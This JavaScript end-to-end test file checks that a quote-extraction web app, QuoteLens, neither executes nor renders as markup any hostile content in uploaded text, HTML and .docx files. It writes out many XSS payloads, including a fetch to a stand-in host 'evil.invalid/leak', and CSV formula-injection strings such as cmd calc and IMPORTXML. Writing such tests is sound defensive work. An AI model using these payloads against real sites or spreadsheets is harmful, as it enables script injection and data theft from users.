// End-to-end tests of the page with hostile files (issue 14). Text, HTML and .docx files carry
// script in every common shape (<script>, onerror=/onload= attributes, javascript: links,
// <iframe srcdoc>, <svg><script>, </textarea>, <style> with url()); the page is served WITHOUT
// a Content-Security-Policy, so that a payload that reached the DOM as markup would really run.
// Each payload sets window.__pwned (or its parent's), opens a dialog or makes a request: the
// tests assert that none of that happened and that the words show literally, as text, in the
// Documents, Article and Speakers views and in the <quote-lens> element. The CSV export must
// neutralise cells a spreadsheet would run (OWASP), the JSON export must be plain data. And a
// panic in the core (forced through a message field only a test's worker sets) must mark that
// one file as failed while a fresh worker analyses the rest. Run after scripts/build-web.sh.
import { after, before, describe, test } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { join } from "node:path";
import { crc32 } from "node:zlib";
import { ROOT, bytesB64, closePage, downloadText, dropFiles, launch, parseCsv, readCards } from "./helpers.mjs";

const HEADLINE = "Council vote on the harbour bridge";
// One paragraph per payload, each inside a quotation with a speaker.
const PARAGRAPHS = [
  "The council voted on Tuesday to delay the harbour bridge again.",
  "“<script>window.__pwned = 'script'</script> is what they sent us,” said Siobhán O'Neill, the harbour master.",
  "“<img src=x onerror=window.__pwned='img'> and <video><source onerror=window.__pwned='onerror'></video> were in the letter,” said Siobhán O'Neill.",
  "“<body onload=window.__pwned='body'> and <svg onload=window.__pwned='onload'> and nothing else,” O'Neill said.",
  "“<a href=javascript:window.__pwned='a'>the report</a> and [the link](javascript:window.__pwned='link') are links,” said Per Lund, a councillor.",
  "“<iframe srcdoc=<script>parent.__pwned='srcdoc'</script>></iframe> came too,” Lund said.",
  "“<svg><script>window.__pwned='svg'</script></svg> is a picture,” said Lund.",
  "“</textarea><script>window.__pwned='textarea'</script> closes the box,” said Siobhán O'Neill.",
  "“<style>body{background:url(http://evil.invalid/css)}</style> paints the page,” Lund said.",
  "“<script>alert('dialog')</script><img src=x onerror=fetch('http://evil.invalid/leak')> is the last,” Lund said.",
];
// Payloads the core keeps as text in every format (in plain text it drops the tags it knows,
// <img>, <a> and <body>, as stray markup): each must be shown exactly as written.
const LITERAL = [
  "<script>window.__pwned = 'script'</script>",
  "<video><source onerror=window.__pwned='onerror'></video>",
  "<svg onload=window.__pwned='onload'>",
  "[the link](javascript:window.__pwned='link')",
  "<iframe srcdoc=<script>parent.__pwned='srcdoc'</script>></iframe>",
  "<svg><script>window.__pwned='svg'</script></svg>",
  "</textarea><script>window.__pwned='textarea'</script>",
  "<style>body{background:url(http://evil.invalid/css)}</style>",
  "<script>alert('dialog')</script>",
];
const SPEAKERS = ["Siobhán O'Neill", "Per Lund"];

const escape = (s) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

const TEXT = [HEADLINE, ...PARAGRAPHS].join("\n\n") + "\n";

/** An HTML article: live markup payloads in the page around it, the payload words as text. */
const HTML = `<!doctype html>
<html><head><title>${HEADLINE}</title>
<style>body{background:url(http://evil.invalid/page-css)}</style>
<script>window.__pwned = "page-script"</script>
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned='refresh'">
</head>
<body onload="window.__pwned='page-onload'">
<nav><a href="javascript:window.__pwned='nav'">Home</a></nav>
<article>
<h1>${HEADLINE}</h1>
<img src="x" onerror="window.__pwned='page-img'" alt="">
<iframe srcdoc="&lt;script&gt;parent.__pwned='page-srcdoc'&lt;/script&gt;"></iframe>
<svg><script>window.__pwned='page-svg'</script></svg>
${PARAGRAPHS.map((p) => `<p>${escape(p)}</p>`).join("\n")}
</article>
<script src="http://evil.invalid/x.js"></script>
</body></html>
`;

/** A zip of stored (uncompressed) entries. */
function storedZip(entries) {
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const [name, text] of entries) {
    const data = Buffer.from(text, "utf8");
    const nameBytes = Buffer.from(name, "utf8");
    const fields = (central) => {
      const b = Buffer.alloc(central ? 46 : 30);
      let i = 0;
      const u32 = (v) => ((i = b.writeUInt32LE(v >>> 0, i)), undefined);
      const u16 = (v) => ((i = b.writeUInt16LE(v, i)), undefined);
      u32(central ? 0x02014b50 : 0x04034b50);
      if (central) u16(20);
      u16(20), u16(0), u16(0), u32(0), u32(crc32(data)), u32(data.length), u32(data.length);
      u16(nameBytes.length), u16(0);
      if (central) u16(0), u16(0), u16(0), u32(0), u32(offset);
      return Buffer.concat([b, nameBytes]);
    };
    const local = Buffer.concat([fields(false), data]);
    locals.push(local);
    centrals.push(fields(true));
    offset += local.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/** A Word document: the payload words in <w:t> runs, and foreign script elements in the XML. */
const DOCX = storedZip([
  [
    "[Content_Types].xml",
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  ],
  [
    "word/document.xml",
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>' +
      "<script>window.__pwned='docx-xml'</script><svg onload=\"window.__pwned='docx-svg'\"/>" +
      [HEADLINE, ...PARAGRAPHS]
        .map((p) => `<w:p><w:r><w:t xml:space="preserve">${escape(p)}</w:t></w:r></w:p>`)
        .join("") +
      "</w:body></w:document>",
  ],
]);

const FILES = [
  { name: "hostile.txt", b64: bytesB64(Buffer.from(TEXT)), type: "text/plain" },
  { name: "hostile.html", b64: bytesB64(Buffer.from(HTML)), type: "text/html" },
  {
    name: "hostile.docx",
    b64: bytesB64(DOCX),
    type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
  },
];

let browser;

before(async () => {
  browser = await launch();
});

after(() => browser?.close());

/** Opens the page (or `path`) recording every dialog; dialogs are dismissed. */
async function openRecording(options = {}) {
  const dialogs = [];
  const session = await browser.openPage({
    ...options,
    before: async (page) => {
      page.on("dialog", (d) => {
        dialogs.push(d.message());
        d.dismiss().catch(() => {});
      });
      await options.before?.(page);
    },
  });
  return { ...session, dialogs };
}

/**
 * Asserts that no payload ran: the flag is unset in the page and in any frame, no dialog
 * opened, every request went to the page's own server, and no element anywhere (shadow roots
 * included) carries an event-handler attribute, a srcdoc, a javascript: URL, or is a script,
 * frame, style or media element that the page itself does not have.
 */
async function assertNothingRan({ page, dialogs, requests }) {
  // Give an image error or a frame load time to fire.
  await page.waitForTimeout(500);
  const flags = await Promise.all(page.frames().map((f) => f.evaluate(() => window.__pwned).catch(() => undefined)));
  assert.deepEqual(flags.filter((f) => f !== undefined), [], "no payload set the flag");
  assert.deepEqual(page.frames().length, 1, "no frame was created");
  assert.deepEqual(dialogs, [], "no dialog opened");
  const own = new URL(browser.baseUrl).origin;
  assert.deepEqual(requests.filter((u) => new URL(u).origin !== own), [], "no request left the page");
  const active = await page.evaluate(() => {
    const found = [];
    const visit = (root) => {
      for (const el of root.querySelectorAll("*")) {
        for (const a of el.attributes) {
          if (/^on/i.test(a.name) || a.name === "srcdoc" || /^\s*javascript:/i.test(a.value)) {
            found.push(`<${el.localName} ${a.name}>`);
          }
        }
        if (/^(iframe|frame|object|embed|video|audio|source|img|style)$/.test(el.localName)) found.push(el.localName);
        if (el.localName === "script" && !el.src) found.push("inline script");
        if (el.shadowRoot) visit(el.shadowRoot);
      }
    };
    visit(document);
    return found;
  });
  assert.deepEqual(active, [], "no active element or attribute came from a document");
}

const textOf = (page, selector) => page.$eval(selector, (e) => e.textContent);

describe("hostile files", () => {
  test("script in text, HTML and .docx files never runs, and its words show literally in every view", async () => {
    const session = await openRecording();
    const { page } = session;
    await dropFiles(page, FILES);
    const cards = await readCards(page, FILES.length);
    for (const card of cards) {
      assert.equal(card.error, null, `${card.name} is analysed`);
      assert.deepEqual(card.headlines, [HEADLINE], card.name);
      // Documents view: every payload that the core kept, character for character.
      for (const payload of LITERAL) assert.ok(card.text.includes(payload), `${card.name} shows ${payload}`);
      assert.ok(card.quotes.length >= PARAGRAPHS.length - 1, `${card.name}: ${JSON.stringify(card.quotes)}`);
      const speakers = new Set(card.quotes.map((q) => q.speaker));
      for (const s of SPEAKERS) assert.ok(speakers.has(s), `${card.name} names ${s}`);
    }
    // HTML and .docx give the payloads as escaped text, so even the tags plain text drops stay.
    for (const card of cards.filter((c) => c.name !== "hostile.txt")) {
      assert.ok(card.text.includes("<img src=x onerror=window.__pwned='img'>"), card.name);
      assert.ok(card.text.includes("<a href=javascript:window.__pwned='a'>the report</a>"), card.name);
    }

    // Article view: the cleaned text of each file, with its highlights, shows the payloads.
    await page.click("[data-testid=tab-article]");
    await page.waitForSelector("[data-testid=panel-article]");
    const options = await page.$$eval("[data-testid=article-doc] option", (os) => os.map((o) => o.value));
    assert.equal(options.length, FILES.length);
    for (const value of options) {
      await page.selectOption("[data-testid=article-doc]", value);
      const text = await textOf(page, "[data-testid=article-text]");
      for (const payload of LITERAL) assert.ok(text.includes(payload), `article ${value} shows ${payload}`);
      assert.ok((await page.$$("[data-testid=hl]")).length >= PARAGRAPHS.length - 1, "the quotations are highlighted");
    }

    // Speakers view: the names (quote marks and accents included) as written.
    await page.click("[data-testid=tab-speakers]");
    await page.waitForSelector("[data-testid=panel-speakers]");
    const names = await page.$$eval("[data-testid=speaker-row-name]", (els) => els.map((e) => e.textContent));
    assert.deepEqual([...names].sort(), [...SPEAKERS].sort());
    const attrs = await page.$$eval("[data-testid=speaker-row]", (els) => els.map((e) => e.dataset.speaker));
    assert.deepEqual([...attrs].sort(), [...SPEAKERS].sort());

    await assertNothingRan({ ...session, requests: session.requests });
    await closePage(session);
  });

  test("the checks catch a payload that does reach the page as markup", async () => {
    const session = await openRecording();
    const { page } = session;
    await dropFiles(page, [FILES[0]]);
    await readCards(page, 1);
    // A renderer bug, simulated: one quotation's words written into the page as HTML.
    await page.$$eval("[data-testid=quote-text]", (quotes) => {
      const q = quotes.find((e) => e.textContent.includes("onerror"));
      q.innerHTML = q.textContent;
    });
    await assert.rejects(assertNothingRan(session), /no payload set the flag|no active element/);
    await page.context().close();
  });

  test("the <quote-lens> element shows the payloads as text and runs none of them", async () => {
    const session = await openRecording({ path: "www/demo/cms.html", ready: "quote-lens" });
    const { page } = session;
    // The demo's body is a <textarea> the element reads: "</textarea>" must not close it.
    await page.fill("#body", PARAGRAPHS.join("\n\n"));
    await page.waitForFunction(() =>
      [...(document.querySelector("quote-lens")?.shadowRoot?.querySelectorAll("[data-testid=quote-text]") ?? [])].some(
        (q) => q.getAttribute("title").includes("closes the box"),
      ),
    );
    const shown = await page.$eval("quote-lens", (lens) =>
      [...lens.shadowRoot.querySelectorAll("[data-testid=quote-text]")].map((q) => q.getAttribute("title")).join("\n"),
    );
    for (const payload of LITERAL) assert.ok(shown.includes(payload), `the element shows ${payload}`);
    assert.equal(await page.inputValue("#body"), PARAGRAPHS.join("\n\n"), "the textarea holds the text as typed");
    await assertNothingRan(session);
    await closePage(session);
  });

  test("the CSV export neutralises formula cells and the JSON export is plain data", async () => {
    const session = await openRecording();
    const { page } = session;
    const formulas = [
      "=cmd|' /C calc'!A0 and =HYPERLINK(A1)",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    const article = [
      "=IMPORTXML(\"http://evil.invalid\",\"//a\")",
      "The council voted on Tuesday.",
      ...formulas.map((f) => `“${f}” said Per Lund, a councillor.`),
    ].join("\n\n");
    await dropFiles(page, [{ name: "formulas.txt", b64: bytesB64(Buffer.from(article)) }]);
    await readCards(page, 1);

    const csv = await downloadText(page, "export-csv");
    assert.equal(csv.name, "quotelens-quotes.csv");
    const records = parseCsv(csv.text);
    const [header, ...rows] = records;
    const quoteAt = header.indexOf("quote");
    const headlineAt = header.indexOf("headline");
    assert.ok(quoteAt >= 0 && headlineAt >= 0, JSON.stringify(header));
    // Every cell a spreadsheet would run starts with an apostrophe instead.
    for (const cell of records.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
    const quotes = rows.map((r) => r[quoteAt]);
    for (const f of formulas) assert.ok(quotes.includes(`'${f}`), `${f} in ${JSON.stringify(quotes)}`);
    assert.ok(rows.every((r) => r[headlineAt] === "'=IMPORTXML(\"http://evil.invalid\",\"//a\")"), "the headline too");

    const [json] = await Promise.all([page.waitForEvent("download"), page.click("[data-testid=export-json]")]);
    const text = await readFile(await json.path(), "utf8");
    const report = JSON.parse(text);
    // Plain data: the words as the core gave them, no neutralising, nothing but JSON values.
    const words = report.documents[0].quotes.map((q) => q.text);
    for (const f of formulas) assert.ok(words.some((w) => w.startsWith(f)), `${f} in ${JSON.stringify(words)}`);
    const kinds = new Set();
    const walk = (v) => (v && typeof v === "object" ? Object.values(v).forEach(walk) : kinds.add(typeof v));
    walk(report);
    assert.deepEqual([...kinds].filter((k) => !["string", "number", "boolean"].includes(k) && k !== "object"), []);
    await closePage(session);
  });
});

describe("a crash in the core", () => {
  // The test's worker: the page's own worker.js, plus a wrapper that marks the message of the
  // file named CRASH with `testPanic`, which makes the core panic (see src/web/worker/answer.rs).
  const CRASH = "crash-me.txt";
  let workerScripts = 0;
  const withTestPanic = async (page) => {
    const source = await readFile(join(ROOT, "www", "worker.js"), "utf8");
    const suffix = `
const analyse = self.onmessage;
self.onmessage = (event) => {
  if (event.data?.name === ${JSON.stringify(CRASH)}) event.data.testPanic = true;
  return analyse(event);
};
`;
    await page.route("**/www/worker.js", (route) => {
      workerScripts += 1;
      return route.fulfill({ status: 200, contentType: "text/javascript", body: source + suffix });
    });
  };

  test("marks that file as failed, replaces the worker and analyses the remaining files", async () => {
    const session = await openRecording({ before: withTestPanic });
    const { page } = session;
    const seeds = ["000_d2c38d9ee408bbd1.txt", "001_bdbef122728239ac.txt", "002_b9fcb18f2f7b7f57.txt", "003_27879f57c91dcf80.txt"];
    const seed = async (name) => ({
      name,
      b64: (await readFile(join(ROOT, "tests", "fixtures", "seeds", name))).toString("base64"),
    });
    const files = [await seed(seeds[0]), { name: CRASH, b64: bytesB64(Buffer.from(TEXT)) }];
    for (const name of seeds.slice(1)) files.push(await seed(name));
    await dropFiles(page, files);
    const cards = await readCards(page, files.length);
    const crashed = cards.find((c) => c.name === CRASH);
    assert.equal(crashed.error?.code, "crashed");
    assert.match(crashed.error.message, /^crash-me\.txt could not be analysed: QuoteLens stopped with an internal error/);
    assert.match(crashed.error.message, /a panic forced by a test while analysing crash-me\.txt/);
    assert.match(crashed.error.message, /The other files are analysed as usual/);
    for (const card of cards.filter((c) => c.name !== CRASH)) {
      assert.equal(card.error, null, `${card.name} is analysed`);
      assert.ok(card.quotes.length > 0, `${card.name} shows quotations`);
    }
    const status = await page.$eval(
      `[data-testid=file][data-name="${CRASH}"] [data-testid=file-status]`,
      (badge) => badge.dataset.status,
    );
    assert.equal(status, "error");
    // A second worker was started for the files after the crash.
    assert.equal(workerScripts, 2);

    // The fresh worker goes on working: a file dropped afterwards is analysed too.
    await dropFiles(page, [{ name: "after.txt", b64: bytesB64(Buffer.from(TEXT)) }]);
    const after = (await readCards(page, files.length + 1)).find((c) => c.name === "after.txt");
    assert.equal(after.error, null);
    assert.ok(after.quotes.length > 0);
    await closePage(session);
  });
});
